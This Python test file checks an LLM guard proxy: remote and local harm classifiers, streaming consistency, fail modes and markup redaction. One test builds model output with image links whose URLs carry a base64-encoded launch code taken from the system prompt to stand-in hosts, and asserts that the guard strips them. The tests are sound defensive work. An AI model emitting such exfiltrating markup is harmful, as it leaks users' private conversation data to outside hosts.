"""Markup, classifiers behind an address and kinds of harm in a server: one verdict on every route, streamed or not; nobody else
waits while a classifier thinks; private text of the conversation leaves in no address."""

from __future__ import annotations

import asyncio
import base64
import threading
from collections.abc import Iterator
from typing import Any

import numpy as np
import pytest
from tests.support.classifier_server import Classifier, classifier, minds

from hanok.guard.grams import BITS
from hanok.guard.harm import HarmClassifier

ROUTES = ("chat", "completions", "responses", "messages")
ANSWER = (
    "A first sentence that is quite harmless. " * 4
    + "Then the bomb is built like this, step by step. "
    + "And on it goes. " * 4
)
CODE = "omega-7781-alpha-green"
CODED = base64.urlsafe_b64encode(f"the code is {CODE}".encode()).decode()
TALK = [
    {"role": "system", "content": f"The launch code is {CODE}. Keep it."},
    {"role": "user", "content": "Show me a chart."},
]


@pytest.fixture
def remote() -> Iterator[Classifier]:
    with classifier(minds("bomb")) as one:
        yield one


def policy(remote: Classifier, more: str = 'action = "redact"') -> str:
    return f'format = 1\n[rules.remote]\nkind = "external"\nurl = "{remote.url}"\nwindow = 100\n{more}\n'


@pytest.mark.parametrize("action", ["redact", "block"])
@pytest.mark.parametrize("route", ROUTES)
def test_a_remote_verdict_is_the_same_streamed_or_whole(
    scripted: Any, told: Any, body_of: Any, remote: Classifier, route: str, action: str
) -> None:
    server = scripted(policy(remote, f'action = "{action}"'))
    seen = []
    for stream in (False, True):
        server.says(*(ANSWER[start : start + 9] for start in range(0, len(ANSWER), 9)))
        path, body = body_of(route, stream=stream)
        answer = told(route, server.post(path, body), stream=stream)
        assert "bomb" not in answer["text"]
        assert answer["text"].startswith("A first sentence")
        assert ("And on it goes." in answer["text"]) == (action == "redact")
        seen.append((answer["text"], [(one.rule, one.action, one.span) for one in server.events]))
    assert seen[0] == seen[1]
    assert [one[:2] for one in seen[0][1]] == [("remote", action)]
    server = scripted("format = 1")  # the control
    server.says(ANSWER)
    path, body = body_of(route, stream=False)
    assert "bomb" in told(route, server.post(path, body), stream=False)["text"]


@pytest.mark.parametrize("on", ["input", "output"])
def test_nobody_else_waits_while_a_classifier_thinks(scripted: Any, remote: Classifier, on: str) -> None:
    go = threading.Event()

    def think(_path: str, _body: dict[str, Any]) -> dict[str, Any]:
        assert go.wait(60)
        return {"score": 0.0}

    remote.answer = think
    server = scripted(policy(remote, f'on = ["{on}"]\ntimeout = 60\nconcurrency = 64'))
    server.says(ANSWER)

    async def meanwhile() -> tuple[int, list[str]]:
        body = {"model": "m", "messages": TALK}
        asked = [
            asyncio.create_task(server.client.post("/v1/chat/completions", json=body)) for _ in range(12)
        ]
        while remote.running < 12:  # more than the threads of everything else
            await asyncio.sleep(0.01)
        health = await server.client.get("/healthz")
        assert not any(one.done() for one in asked)
        other = await asyncio.to_thread(lambda: "done")
        assert other == "done"
        go.set()
        return health.status_code, [(await one).json()["choices"][0]["message"]["content"] for one in asked]

    status, answers = server.loop.run_until_complete(meanwhile())
    assert status == 200
    assert answers == [ANSWER] * 12


@pytest.mark.parametrize("fail", ["closed", "flag"])
def test_a_classifier_that_is_down(
    scripted: Any, told: Any, body_of: Any, remote: Classifier, fail: str
) -> None:
    remote.answer = lambda _path, _body: 500
    server = scripted(policy(remote, f'on = ["output"]\nfail = "{fail}"'))
    server.says(ANSWER)
    path, body = body_of("chat", stream=True)
    answer = told("chat", server.post(path, body), stream=True)
    assert (answer["text"], answer["reason"]) == (
        ("", "content_filter") if fail == "closed" else (ANSWER, "stop")
    )
    assert [one.action for one in server.events] == ["block" if fail == "closed" else "flag"]
    server = scripted(policy(remote, f'on = ["input"]\nfail = "{fail}"'))
    server.says("Hello.")
    assert server.post(path, {**body, "stream": False}).status_code == (400 if fail == "closed" else 200)


def test_a_call_is_asked_about_whole(scripted: Any, told: Any, body_of: Any, remote: Classifier) -> None:
    server = scripted(policy(remote, 'on = ["output"]\naction = "block"'))
    server.says(
        "<tool_call>", '{"name": "save", "arguments": {"note": "a bomb"}}', "</tool_call>", control=True
    )
    path, body = body_of("chat", stream=True, tools=True)
    answer = told("chat", server.post(path, body), stream=True)
    assert (answer["arguments"], answer["reason"]) == ("", "content_filter")
    assert remote.texts == ['save({"note": "a bomb"})']


@pytest.mark.parametrize("stream", [True, False])
def test_private_text_of_the_conversation_leaves_in_no_address(
    scripted: Any, told: Any, stream: bool
) -> None:
    """Under the shipped policy, too: it knows the image that carries the system prompt from the one that does not."""
    from hanok.guard.rulebook import Guard

    server = scripted(Guard.open("default"))
    says = f"![chart](https://a.example/c.png?d={CODED}) and ![logo](https://a.example/logo.png) and <img src='https://b.example/{CODED}'>"
    body = {"messages": TALK, "stream": stream}
    for cut in (1, 20, 57, 90):
        server.says(says[:cut], says[cut:])
        answer = told("chat", server.post("/v1/chat/completions", body), stream=stream)
        assert answer["text"] == "chart (…) and ![logo](https://a.example/logo.png) and <img >"
        assert [(one.rule, one.action) for one in server.events][:1] == [("markup", "redact")]
    server.says(says)  # the control: who was told nothing can carry nothing away
    plain = server.post("/v1/chat/completions", {"messages": TALK[1:], "stream": stream})
    assert told("chat", plain, stream=stream)["text"] == says


def test_the_arguments_of_a_call_are_not_shown(scripted: Any, told: Any, body_of: Any) -> None:
    server = scripted("format = 1\n[rules.markup]")
    page = "<form action=https://a.example></form>"
    server.says(
        page,
        "<tool_call>",
        '{"name": "save", "arguments": {"note": "' + page + '"}}',
        "</tool_call>",
        control=True,
    )
    path, body = body_of("chat", stream=True, tools=True)
    answer = told("chat", server.post(path, body), stream=True)
    assert page in answer["arguments"]
    assert answer["text"].startswith("&lt;form")


def test_kinds_of_harm_are_found_on_both_sides(scripted: Any, told: Any, body_of: Any, tmp_path: Any) -> None:
    from hanok.guard.grams import hashed

    weights = np.zeros((1 << BITS, 2), dtype=np.float32)
    weights[hashed("zounds"), 1] = 9.0
    HarmClassifier(("mild", "oaths"), weights, np.array([-1.0, -1.0]), np.zeros(2)).save(
        tmp_path / "h.safetensors"
    )
    server = scripted('format = 1\n[rules.harm]\nfile = "h.safetensors"\nactions = { oaths = "block" }')
    server.says("A calm and quiet sentence to begin with, as it were. ", "Then zounds, zounds!")
    path, body = body_of("chat", stream=True)
    answer = told("chat", server.post(path, body), stream=True)
    assert (answer["text"], answer["reason"]) == (
        "A calm and quiet sentence to begin with, as it were. ",
        "content_filter",
    )
    refused = server.post("/v1/chat/completions", {"messages": [{"role": "user", "content": "zounds"}]})
    assert (refused.status_code, "oaths" in refused.text) == (400, True)
